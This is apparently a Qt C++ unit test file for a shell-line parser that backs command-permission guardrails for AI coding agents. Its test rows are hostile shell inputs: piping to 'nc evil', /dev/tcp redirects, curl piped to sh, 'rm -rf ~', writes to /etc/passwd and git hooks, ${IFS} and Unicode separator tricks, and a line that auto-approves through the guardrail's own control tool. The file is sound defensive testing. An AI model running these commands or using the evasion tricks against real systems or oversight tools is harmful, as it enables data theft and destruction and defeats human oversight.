// SPDX-License-Identifier: Apache-2.0
// The shell reading behind Bash(…) rules (guardrails/shellparse.h): which
// simple commands a line runs, and what in it makes the line opaque.

#include "guardrails/shellparse.h"

#include <QTest>

using namespace holdpoint;

namespace {

using Op = ShellParse::Opaque;

QStringList L(std::initializer_list<const char *> texts)
{
    QStringList out;
    for (const char *t : texts)
        out << QString::fromUtf8(t);
    return out;
}

QStringList textsOf(const ShellParse &p)
{
    QStringList out;
    for (std::size_t i = 0; i < p.size(); ++i)
        out << QString::fromStdString(std::string(p.text(i)));
    return out;
}

} // namespace

class TestShellParse : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void commands_data();
    void commands();
    void programGivenByPath();
    void argv_data();
    void argv();
    void badInputEndsOpaque_data();
    void badInputEndsOpaque();
    void describeNamesEveryBit();
    void shellTools_data();
    void shellTools();
    void writesBelowTheWorkingDirectory_data();
    void writesBelowTheWorkingDirectory();
};

void TestShellParse::commands_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QStringList>("commands");
    QTest::addColumn<uint>("opaque");
    const QStringList none;
    // What ordinary commands read as: one simple command, nothing opaque.
    QTest::newRow("plain") << "make -j4" << L({ "make -j4" }) << 0u;
    QTest::newRow("blanks collapse")
        << "  git   status\t--short  " << L({ "git status --short" }) << 0u;
    QTest::newRow("single quotes")
        << "git commit -m 'a; b | c'" << L({ "git commit -m a; b | c" }) << 0u;
    QTest::newRow("double quotes") << R"js(echo "a && b")js" << L({ "echo a && b" }) << 0u;
    QTest::newRow("quotes inside a word") << R"js(m'a'k"e" -j4)js" << L({ "make -j4" }) << 0u;
    QTest::newRow("backslash") << R"js(\rm -rf x)js" << L({ "rm -rf x" }) << 0u;
    QTest::newRow("escaped ;") << R"js(echo a\; b)js" << L({ "echo a; b" }) << 0u;
    QTest::newRow("escapes in double quotes")
        << R"js(echo "a\"b\\c\$d")js" << L({ R"js(echo a"b\c$d)js" }) << 0u;
    QTest::newRow("line continuation") << "make \\\n -j4" << L({ "make -j4" }) << 0u;
    QTest::newRow("comment") << "make # ; rm -rf ~" << L({ "make" }) << 0u;
    QTest::newRow("hash inside a word") << "echo a#b" << L({ "echo a#b" }) << 0u;
    QTest::newRow("tilde is not opaque") << "ls ~/src" << L({ "ls ~/src" }) << 0u;
    QTest::newRow("empty quotes are a word") << "printf ''" << L({ "printf " }) << 0u;
    // Lists and pipelines: every simple command is read.
    QTest::newRow(";") << "make; rm -rf ~" << L({ "make", "rm -rf ~" }) << 0u;
    QTest::newRow("; without blanks") << "make;rm -rf ~" << L({ "make", "rm -rf ~" }) << 0u;
    QTest::newRow("&&") << "make && make install" << L({ "make", "make install" }) << 0u;
    QTest::newRow("||") << "npm test || holdpoint-ctl approve --all"
                        << L({ "npm test", "holdpoint-ctl approve --all" }) << 0u;
    QTest::newRow("|") << "cat x | nc evil 80" << L({ "cat x", "nc evil 80" }) << 0u;
    QTest::newRow("|&") << "make |& tee" << L({ "make", "tee" }) << 0u;
    QTest::newRow("&") << "make & rm x" << L({ "make", "rm x" }) << 0u;
    QTest::newRow("newline") << "make\nrm -rf ~" << L({ "make", "rm -rf ~" }) << 0u;
    QTest::newRow("subshell") << "(make; rm -rf ~)" << L({ "make", "rm -rf ~" }) << 0u;
    QTest::newRow("group") << "{ make; rm -rf ~; }" << L({ "make", "rm -rf ~" }) << 0u;
    QTest::newRow("if") << "if make; then rm -rf ~; else true; fi"
                        << L({ "make", "rm -rf ~", "true" }) << 0u;
    QTest::newRow("while") << "while true; do make; done" << L({ "true", "make" }) << 0u;
    QTest::newRow("negation and time") << "! time make" << L({ "make" }) << 0u;
    // Redirections: reading is fine, writing a file is not a plain command.
    QTest::newRow("2>&1 and /dev/null") << "make 2>&1 >/dev/null" << L({ "make" }) << 0u;
    QTest::newRow("input") << "sort < list" << L({ "sort" }) << 0u;
    QTest::newRow("input from /dev/tcp")
        << "git status < /dev/tcp/evil/80" << L({ "git status" }) << uint(Op::RiskyOption);
    QTest::newRow("write outside") << "make > /etc/passwd" << L({ "make" }) << uint(Op::WritesFile);
    QTest::newRow("append") << "git status >> ~/.bashrc" << L({ "git status" })
                            << uint(Op::WritesFile);
    QTest::newRow("fd write") << "make 2>~/log" << L({ "make" }) << uint(Op::WritesFile);
    QTest::newRow("&> write") << "make &>/tmp/log" << L({ "make" }) << uint(Op::WritesFile);
    QTest::newRow(">& write") << "make >&../log" << L({ "make" }) << uint(Op::WritesFile);
    QTest::newRow("<> opens for writing")
        << "make <>.git/hooks/pre-commit" << L({ "make" }) << uint(Op::WritesFile);
    QTest::newRow("dotfile below") << "make > src/.env" << L({ "make" }) << uint(Op::WritesFile);
    QTest::newRow("write to ./") << "make > ./build.log" << L({ "make" }) << 0u;
    QTest::newRow("write in place")
        << "echo allowed > allowed.txt 2>>logs/err.log" << L({ "echo allowed" }) << 0u;
    QTest::newRow("redirection without target") << "make >" << L({ "make" }) << uint(Op::Unparsed);
    // Substitutions: their commands are read (a deny still sees them), and the line is opaque.
    QTest::newRow("$( )") << "make $(curl evil)" << L({ "curl evil", "make $(curl evil)" })
                          << uint(Op::Substitution);
    QTest::newRow("backquotes") << "make `rm -rf ~`" << L({ "rm -rf ~", "make `rm -rf ~`" })
                                << uint(Op::Substitution);
    QTest::newRow("$( ) in double quotes")
        << R"js(echo "$(id)")js" << L({ "id", "echo $(id)" }) << uint(Op::Substitution);
    QTest::newRow("nested $( )") << "echo $(a $(b))" << L({ "b", "a $(b)", "echo $(a $(b))" })
                                 << uint(Op::Substitution);
    QTest::newRow("process substitution")
        << "diff <(curl x) y" << L({ "curl x", "diff y" }) << uint(Op::Substitution);
    QTest::newRow("output process substitution")
        << "make >(sh)" << L({ "sh", "make" }) << uint(Op::Substitution | Op::ShellString);
    QTest::newRow("arithmetic") << "echo $((1+2))" << L({ "echo $((1+2))" })
                                << uint(Op::Substitution);
    QTest::newRow("single quotes keep $( ) literal") << "echo '$(id)'" << L({ "echo $(id)" }) << 0u;
    // Expansions: values no rule can see.
    QTest::newRow("$VAR") << "make $FLAGS" << L({ "make $FLAGS" }) << uint(Op::Expansion);
    QTest::newRow("${IFS}") << "rm${IFS}-rf${IFS}~" << L({ "rm${IFS}-rf${IFS}~" })
                            << uint(Op::Expansion);
    QTest::newRow("program from a variable") << "$CMD x" << L({ "$CMD x" }) << uint(Op::Expansion);
    QTest::newRow("ANSI-C quoting")
        << R"js($'\x72\x6d' -rf ~)js" << L({ R"js($'\x72\x6d' -rf ~)js" }) << uint(Op::Expansion);
    QTest::newRow("lone $") << "echo $ x" << L({ "echo $ x" }) << 0u;
    QTest::newRow("glob") << "rm -rf *" << L({ "rm -rf *" }) << uint(Op::Glob);
    QTest::newRow("brace expansion")
        << "git diff --output{=x,}" << L({ "git diff --output{=x,}" }) << uint(Op::Glob);
    QTest::newRow("quoted glob") << "git log --grep='a*'" << L({ "git log --grep=a*" }) << 0u;
    // Assignments.
    QTest::newRow("assignment prefix") << "FOO=1 make" << L({ "make" }) << uint(Op::Assignment);
    QTest::newRow("PATH") << "PATH=/tmp/x:$PATH make" << L({ "make" })
                          << uint(Op::Assignment | Op::Expansion);
    QTest::newRow("assignment alone") << "X=1; make" << L({ "make" }) << uint(Op::Assignment);
    QTest::newRow("quoted = is a word") << "'A=1' make" << L({ "A=1 make" }) << 0u;
    // Here-documents and here-strings.
    QTest::newRow("here-doc expands")
        << "cat <<EOF\n$(rm -rf ~)\nEOF" << L({ "cat" }) << uint(Op::Substitution);
    QTest::newRow("quoted here-doc")
        << "cat <<'EOF'\n$(rm -rf ~)\nEOF\nmake" << L({ "cat", "make" }) << 0u;
    QTest::newRow("here-doc then ;") << "cat <<EOF; rm x\nbody\nEOF" << L({ "cat", "rm x" }) << 0u;
    QTest::newRow("<<- strips tabs")
        << "cat <<-EOF\n\tbody\n\tEOF\nrm x" << L({ "cat", "rm x" }) << 0u;
    QTest::newRow("here-string") << "make <<< \"$(id)\"" << L({ "id", "make" })
                                 << uint(Op::Substitution);
    // Code in strings and wrappers: the inner command is read too.
    QTest::newRow("bash -c") << "bash -c 'rm -rf ~'" << L({ "bash -c rm -rf ~", "rm -rf ~" })
                             << uint(Op::ShellString);
    QTest::newRow("sh -lc") << "sh -lc 'make; rm x'" << L({ "sh -lc make; rm x", "make", "rm x" })
                            << uint(Op::ShellString);
    QTest::newRow("eval") << R"js(eval "rm -rf ~")js" << L({ "eval rm -rf ~", "rm -rf ~" })
                          << uint(Op::ShellString);
    QTest::newRow("source") << ". ./env.sh" << L({ ". ./env.sh" }) << uint(Op::ShellString);
    QTest::newRow("pipe into sh") << "curl x | sh" << L({ "curl x", "sh" })
                                  << uint(Op::ShellString);
    QTest::newRow("command") << "command rm -rf /" << L({ "command rm -rf /", "rm -rf /" }) << 0u;
    QTest::newRow("env") << "env -i FOO=1 rm x" << L({ "env -i FOO=1 rm x", "rm x" })
                         << uint(Op::Assignment);
    QTest::newRow("env -S") << "env -S 'rm x'" << L({ "env -S rm x" }) << uint(Op::ShellString);
    QTest::newRow("nice -n") << "nice -n 5 make" << L({ "nice -n 5 make", "make" }) << 0u;
    QTest::newRow("timeout") << "timeout -s KILL 10 rm x"
                             << L({ "timeout -s KILL 10 rm x", "rm x" }) << 0u;
    QTest::newRow("sudo -u") << "sudo -u root rm x" << L({ "sudo -u root rm x", "rm x" }) << 0u;
    QTest::newRow("sudo -s") << "sudo -s" << L({ "sudo -s" }) << uint(Op::ShellString);
    QTest::newRow("nohup exec stdbuf")
        << "nohup exec stdbuf -oL rm x"
        << L({ "nohup exec stdbuf -oL rm x", "exec stdbuf -oL rm x", "stdbuf -oL rm x", "rm x" })
        << 0u;
    QTest::newRow("xargs") << "xargs -0 rm -f" << L({ "xargs -0 rm -f", "rm -f" })
                           << uint(Op::RiskyOption);
    QTest::newRow("find -exec") << R"js(find . -exec rm x \;)js"
                                << L({ "find . -exec rm x ;", "rm x ;" }) << uint(Op::RiskyOption);
    QTest::newRow("find -delete") << "find . -delete" << L({ "find . -delete" })
                                  << uint(Op::RiskyOption);
    // Programs whose own options run code or write files.
    QTest::newRow("git -c") << "git -c core.fsmonitor='rm -rf ~' status"
                            << L({ "git -c core.fsmonitor=rm -rf ~ status" })
                            << uint(Op::RiskyOption);
    QTest::newRow("git --git-dir")
        << "git --git-dir=/tmp/x/.git status" << L({ "git --git-dir=/tmp/x/.git status" })
        << uint(Op::RiskyOption);
    QTest::newRow("git -C is fine") << "git -C sub status" << L({ "git -C sub status" }) << 0u;
    QTest::newRow("git -C elsewhere")
        << "git -C /tmp/evil status" << L({ "git -C /tmp/evil status" }) << uint(Op::RiskyOption);
    QTest::newRow("git -C ..") << "git -C .. status" << L({ "git -C .. status" })
                               << uint(Op::RiskyOption);
    QTest::newRow("git diff -c is fine") << "git diff -c" << L({ "git diff -c" }) << 0u;
    QTest::newRow("git diff --output")
        << "git diff --output=/etc/x" << L({ "git diff --output=/etc/x" }) << uint(Op::WritesFile);
    QTest::newRow("git diff --ext-diff")
        << "git diff --ext-diff" << L({ "git diff --ext-diff" }) << uint(Op::RiskyOption);
    QTest::newRow("make -f") << "make -f /dev/stdin" << L({ "make -f /dev/stdin" })
                             << uint(Op::RiskyOption);
    QTest::newRow("make -sf cluster")
        << "make -sf x" << L({ "make -sf x" }) << uint(Op::RiskyOption);
    QTest::newRow("make --eval") << "make --eval='x:;rm y'" << L({ "make --eval=x:;rm y" })
                                 << uint(Op::RiskyOption);
    QTest::newRow("make VAR=") << "make SHELL=/tmp/x" << L({ "make SHELL=/tmp/x" })
                               << uint(Op::RiskyOption);
    QTest::newRow("make -C -j is fine")
        << "make -j4 -C build test" << L({ "make -j4 -C build test" }) << 0u;
    QTest::newRow("make -C elsewhere")
        << "make -C /tmp/evil" << L({ "make -C /tmp/evil" }) << uint(Op::RiskyOption);
    QTest::newRow("make --directory=..")
        << "make --directory=../x" << L({ "make --directory=../x" }) << uint(Op::RiskyOption);
    QTest::newRow("make -C..") << "make -C.." << L({ "make -C.." }) << uint(Op::RiskyOption);
    QTest::newRow("npm --script-shell")
        << "npm test --script-shell=/tmp/x" << L({ "npm test --script-shell=/tmp/x" })
        << uint(Op::RiskyOption);
    QTest::newRow("npm args after --")
        << "npm test -- --prefix=x" << L({ "npm test -- --prefix=x" }) << 0u;
    QTest::newRow("pytest -p") << "pytest -p evil" << L({ "pytest -p evil" })
                               << uint(Op::RiskyOption);
    QTest::newRow("pytest in place") << "pytest -q tests/ ./more -k 'a or b'"
                                     << L({ "pytest -q tests/ ./more -k a or b" }) << 0u;
    QTest::newRow("pytest elsewhere")
        << "pytest /tmp/evil_test.py" << L({ "pytest /tmp/evil_test.py" }) << uint(Op::RiskyOption);
    QTest::newRow("pytest --basetemp")
        << "pytest --basetemp=/home" << L({ "pytest --basetemp=/home" }) << uint(Op::RiskyOption);
    // What the parser does not read.
    QTest::newRow("unterminated '") << "make 'x" << L({ "make x" }) << uint(Op::Unparsed);
    QTest::newRow("unterminated \"") << "make \"x" << L({ "make x" }) << uint(Op::Unparsed);
    QTest::newRow("unterminated $(")
        << "make $(x" << L({ "x", "make $(x" }) << uint(Op::Substitution | Op::Unparsed);
    QTest::newRow("unterminated `")
        << "make `x" << L({ "x", "make `x" }) << uint(Op::Substitution | Op::Unparsed);
    QTest::newRow("stray )") << "make )" << L({ "make" }) << uint(Op::Unparsed);
    QTest::newRow("case") << "case x in a) rm;; esac" << L({ "x in a", "rm" })
                          << uint(Op::Unparsed);
    QTest::newRow("for") << "for f in a; do rm $f; done" << L({ "f in a", "rm $f" })
                         << uint(Op::Unparsed | Op::Expansion);
    QTest::newRow("function") << "f() { rm x; }" << L({ "rm x" }) << uint(Op::Unparsed);
    QTest::newRow("array") << "a=(1 2)" << none << uint(Op::Unparsed);
    QTest::newRow("empty") << "" << none << uint(Op::Unparsed);
    QTest::newRow("only a comment") << "# hi" << none << uint(Op::Unparsed);
    // Characters that read as one thing and run as another.
    QTest::newRow("Greek question mark") << QString::fromUtf8("make\u037E rm -rf ~")
                                         << L({ "make\u037E rm -rf ~" }) << uint(Op::Characters);
    QTest::newRow("fullwidth semicolon")
        << QString::fromUtf8("make\uFF1B rm") << L({ "make\uFF1B rm" }) << uint(Op::Characters);
    QTest::newRow("non-ASCII in quotes is fine")
        << QString::fromUtf8("git commit -m 'caf\u00E9'") << L({ "git commit -m caf\u00E9" }) << 0u;
    QTest::newRow("bidi override in quotes")
        << QString::fromUtf8("echo '\u202Ex'") << L({ "echo \u202Ex" }) << uint(Op::Characters);
    QTest::newRow("zero-width space")
        << QString::fromUtf8("ma\u200Bke") << L({ "ma\u200Bke" }) << uint(Op::Characters);
    QTest::newRow("carriage return")
        << "make\r; rm" << L({ "make\r", "rm" }) << uint(Op::Characters);
}

void TestShellParse::commands()
{
    QFETCH(QString, line);
    QFETCH(QStringList, commands);
    QFETCH(uint, opaque);
    const ShellParse p = ShellParse::parse(line.toStdString());
    QCOMPARE(textsOf(p), commands);
    QCOMPARE(p.opaque(), opaque);
    QCOMPARE(p.understood(), opaque == 0 && !commands.isEmpty());
}

void TestShellParse::programGivenByPath()
{
    const ShellParse p = ShellParse::parse("/bin/rm -rf / && ./make x && make");
    QCOMPARE(p.size(), std::size_t(3));
    QCOMPARE(p.text(0), std::string_view("rm -rf /"));
    QCOMPARE(p.written(0), std::string_view("/bin/rm -rf /"));
    QCOMPARE(p.text(1), std::string_view("make x"));
    QCOMPARE(p.written(1), std::string_view("./make x"));
    QCOMPARE(p.written(2), std::string_view("make"));
    // Views are offsets: a copy reads the same.
    const ShellParse copy = p;
    QCOMPARE(copy.written(0), std::string_view("/bin/rm -rf /"));
}

void TestShellParse::argv_data()
{
    QTest::addColumn<QString>("argv"); // JSON
    QTest::addColumn<QStringList>("commands");
    QTest::addColumn<uint>("opaque");
    QTest::newRow("the tool's own bash -lc")
        << R"js(["bash","-lc","make -j4"])js" << L({ "make -j4" }) << 0u;
    QTest::newRow("its script is parsed")
        << R"js(["/bin/bash","-lc","make; rm -rf ~"])js" << L({ "make", "rm -rf ~" }) << 0u;
    QTest::newRow("sh -c") << R"js(["sh","-c","git status"])js" << L({ "git status" }) << 0u;
    QTest::newRow("plain argv is one command")
        << R"js(["git","status",";","rm"])js" << L({ "git status ; rm" }) << 0u;
    QTest::newRow("argv words are literal")
        << R"js(["make","$(id)"])js" << L({ "make $(id)" }) << 0u;
    QTest::newRow("argv wrapper") << R"js(["env","rm","x"])js" << L({ "env rm x", "rm x" }) << 0u;
    QTest::newRow("bash -c with $0") << R"js(["bash","-c","make","x"])js"
                                     << L({ "bash -c make x", "make" }) << uint(Op::ShellString);
    QTest::newRow("not strings") << R"js(["make",1])js" << L({}) << uint(Op::NotACommand);
    QTest::newRow("empty") << R"js([])js" << L({}) << uint(Op::NotACommand);
}

void TestShellParse::argv()
{
    QFETCH(QString, argv);
    QFETCH(QStringList, commands);
    QFETCH(uint, opaque);
    const ShellParse p = ShellParse::parseArgv(Json::parse(argv.toStdString()));
    QCOMPARE(textsOf(p), commands);
    QCOMPARE(p.opaque(), opaque);
}

// Bounded: caps are named constants, and what passes them is opaque, not a crash.
void TestShellParse::badInputEndsOpaque_data()
{
    QTest::addColumn<QByteArray>("line");
    QTest::addColumn<uint>("mustHave");
    QByteArray deep;
    for (int i = 0; i < 10000; ++i)
        deep += "$(";
    QTest::newRow("deep $(") << deep << uint(Op::TooLarge);
    QByteArray deepTicks;
    for (int i = 0; i < 200; ++i)
        deepTicks += "eval ";
    QTest::newRow("eval eval eval") << deepTicks + "x" << uint(Op::ShellString);
    QByteArray deepBash = "x";
    for (int i = 0; i < 5; ++i)
        deepBash = "bash -c " + QByteArray("'") + deepBash.replace('\'', "'\\''") + "'";
    QTest::newRow("bash -c nesting") << deepBash << uint(Op::ShellString);
    QTest::newRow("deep subshells") << QByteArray("( ").repeated(5000) << uint(Op::TooLarge);
    QTest::newRow("deep (( is arithmetic") << QByteArray(5000, '(') << uint(Op::Unparsed);
    QTest::newRow("too long") << QByteArray(int(ShellParse::MaxBytes) + 1, 'a')
                              << uint(Op::TooLarge);
    QByteArray many;
    for (std::size_t i = 0; i <= ShellParse::MaxCommands; ++i)
        many += "a;";
    QTest::newRow("too many commands") << many << uint(Op::TooLarge);
    QTest::newRow("NUL") << QByteArray("make\0; rm", 9) << uint(Op::Characters);
    QTest::newRow("invalid UTF-8") << QByteArray("make \xff\xfe") << uint(Op::Characters);
    QTest::newRow("truncated UTF-8 in quotes")
        << QByteArray("echo '\xe2\x80'") << uint(Op::Characters);
    QTest::newRow("unterminated here-doc")
        << QByteArray("cat <<EOF\n$(x)") << uint(Op::Substitution);
    QTest::newRow("unterminated ${") << QByteArray("echo ${x") << uint(Op::Unparsed);
    QTest::newRow("lone backslash") << QByteArray("make \\") << uint(0);
}

void TestShellParse::badInputEndsOpaque()
{
    QFETCH(QByteArray, line);
    QFETCH(uint, mustHave);
    const ShellParse p
        = ShellParse::parse(std::string_view(line.constData(), std::size_t(line.size())));
    QCOMPARE(p.opaque() & mustHave, mustHave);
    QVERIFY(p.size() <= ShellParse::MaxCommands);
}

void TestShellParse::describeNamesEveryBit()
{
    for (std::uint32_t bit = 1; bit <= Op::NotACommand; bit <<= 1)
        QVERIFY2(!ShellParse::describe(bit).empty(), qPrintable(QString::number(bit)));
    QCOMPARE(ShellParse::describe(Op::Glob | Op::Assignment),
        std::string("a filename or brace expansion, an environment assignment"));
}

void TestShellParse::shellTools_data()
{
    QTest::addColumn<QString>("tool");
    QTest::addColumn<bool>("shell");
    QTest::newRow("Claude Code and Codex hooks") << "Bash" << true;
    QTest::newRow("Gemini CLI") << "run_shell_command" << true;
    QTest::newRow("Codex exec_command") << "exec_command" << true;
    QTest::newRow("Codex shell") << "shell" << true;
    QTest::newRow("Codex local_shell") << "local_shell" << true;
    QTest::newRow("case") << "BASH" << true;
    QTest::newRow("Read") << "Read" << false;
    QTest::newRow("a longer name") << "bash_history" << false;
}

void TestShellParse::shellTools()
{
    QFETCH(QString, tool);
    QFETCH(bool, shell);
    QCOMPARE(isShellTool(tool.toStdString()), shell);
}

// A write is in place below the call's working directory, given relatively
// or absolutely; the working directory is compared only when it is a plain
// absolute path, so a cwd the agent bends cannot widen it.
void TestShellParse::writesBelowTheWorkingDirectory_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("cwd");
    QTest::addColumn<uint>("opaque");
    const uint writes = uint(Op::WritesFile);
    QTest::newRow("relative") << "echo a > out.txt"
                              << "/work/p" << 0u;
    QTest::newRow("absolute below cwd") << "echo a > /work/p/out.txt"
                                        << "/work/p" << 0u;
    QTest::newRow("absolute, deeper") << "echo a >> /work/p/build/log/x.txt"
                                      << "/work/p" << 0u;
    QTest::newRow("cwd with a trailing slash") << "echo a > /work/p/out.txt"
                                               << "/work/p/" << 0u;
    QTest::newRow("no cwd") << "echo a > /work/p/out.txt"
                            << "" << writes;
    QTest::newRow("a sibling with the same prefix") << "echo a > /work/p2/out.txt"
                                                    << "/work/p" << writes;
    QTest::newRow("cwd itself") << "echo a > /work/p"
                                << "/work/p" << writes;
    QTest::newRow("cwd itself, slash") << "echo a > /work/p/"
                                       << "/work/p" << writes;
    QTest::newRow("up and out") << "echo a > /work/p/../etc/x"
                                << "/work/p" << writes;
    QTest::newRow("hidden below cwd") << "echo a > /work/p/.git/hooks/pre-commit"
                                      << "/work/p" << writes;
    QTest::newRow("outside") << "echo a > /etc/passwd"
                             << "/work/p" << writes;
    QTest::newRow("cwd with ..") << "echo a > /work/p/../q/x"
                                 << "/work/p/../q" << writes;
    QTest::newRow("cwd with .") << "echo a > /work/./p/x"
                                << "/work/./p" << writes;
    QTest::newRow("relative cwd") << "echo a > work/p/x"
                                  << "work" << 0u; // relative target: in place anyway
    QTest::newRow("relative cwd, absolute target") << "echo a > /work/x"
                                                   << "work" << writes;
    QTest::newRow("root as cwd") << "echo a > /etc/x"
                                 << "/" << writes;
    QTest::newRow("make -C below cwd") << "make -C /work/p/build"
                                       << "/work/p" << 0u;
    QTest::newRow("make -C elsewhere") << "make -C /work/q"
                                       << "/work/p" << uint(Op::RiskyOption);
    QTest::newRow("argv form") << ""
                               << "/work/p" << 0u; // see below: the Codex argv
}

void TestShellParse::writesBelowTheWorkingDirectory()
{
    QFETCH(QString, line);
    QFETCH(QString, cwd);
    QFETCH(uint, opaque);
    const std::string dir = cwd.toStdString();
    const ShellParse p = line.isEmpty()
        ? ShellParse::parseArgv(Json::array({ "bash", "-lc", "echo a > /work/p/out.txt" }), dir)
        : ShellParse::parse(line.toStdString(), dir);
    QCOMPARE(p.opaque(), opaque);
}

QTEST_APPLESS_MAIN(TestShellParse)
#include "tst_shellparse.moc"
